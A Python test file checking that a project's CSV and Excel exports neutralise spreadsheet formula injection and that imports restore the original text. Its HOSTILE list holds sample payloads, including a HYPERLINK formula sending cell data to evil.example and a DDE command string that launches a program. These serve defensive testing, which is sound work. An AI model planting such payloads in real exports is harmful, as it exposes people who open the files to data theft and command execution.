"""CSV / Excel formula injection: every export that writes user text keeps a hostile value
inert (core.csvout for CSV, core.xlsx for workbooks), and imports read it back unchanged."""

import csv
import io
import zipfile

import openpyxl
import pytest

from gridgov.core import csvout, org_io, tabular, xlsx
from gridgov.core.actors import SystemActor
from gridgov.core.models import OrgUnit
from gridgov.core.org_io_services import org_units_import
from tests.factories import Tree

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_csv_cell_that_looks_like_a_formula_is_written_as_text(value):
    buffer = io.StringIO()
    csvout.writer(buffer).writerow([value, "张三", 5, -3])

    cells = next(csv.reader(io.StringIO(buffer.getvalue())))

    assert cells[0] == "'" + value
    assert cells[1:] == ["张三", "5", "-3"]  # plain text and numbers (negative ones too) unchanged


@pytest.mark.parametrize("write_only", [True, False])
def test_a_workbook_cell_that_looks_like_a_formula_is_a_quoted_text_cell(write_only):
    workbook = xlsx.new_workbook(write_only=write_only)
    sheet = workbook.create_sheet("t") if write_only else workbook.active
    xlsx.append_row(sheet, HOSTILE + ["plain"])
    data = xlsx.workbook_bytes(workbook)

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = next(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/sheet"))
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml  # no formula anywhere
    row = next(openpyxl.load_workbook(io.BytesIO(data)).worksheets[0].iter_rows(min_row=1, max_row=1))
    # (XML reads a carriage return back as a line feed)
    assert [c.value for c in row[:-1]] == [xlsx.clean_text(v).replace("\r", "\n") for v in HOSTILE]
    assert all(c.data_type == "s" and c.quotePrefix for c in row[:-1])
    assert row[-1].value == "plain" and not row[-1].quotePrefix


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_org_unit_export_with_a_hostile_name_stays_inert_and_imports_back(tree, fmt):
    hostile = '=HYPERLINK("http://evil.example","点击")'
    OrgUnit.objects.filter(code=Tree.CELL_A1).update(name=hostile)

    data = b"".join(org_io.export_org_units(root_code=Tree.VILLAGE_A, fmt=fmt))

    if fmt == "csv":
        text = data.decode("utf-8-sig")
        assert "'" + hostile.replace('"', '""') in text
        assert f",{hostile[:10]}" not in text.replace(f",\"'{hostile[:10]}", "")
    table = tabular.read_table(data, fmt)
    names = [row[table.headers.index("name")] for row in table.rows]
    assert hostile in names  # the apostrophe is the file's, not the name's

    OrgUnit.objects.filter(code=Tree.CELL_A1).update(name="x")
    source = org_io.read_import_file(data, fmt=fmt, name=f"tree.{fmt}")
    org_units_import(actor=SystemActor("test"), plan=org_io.ImportPlan.unchecked(source))
    assert OrgUnit.objects.get(code=Tree.CELL_A1).name == hostile
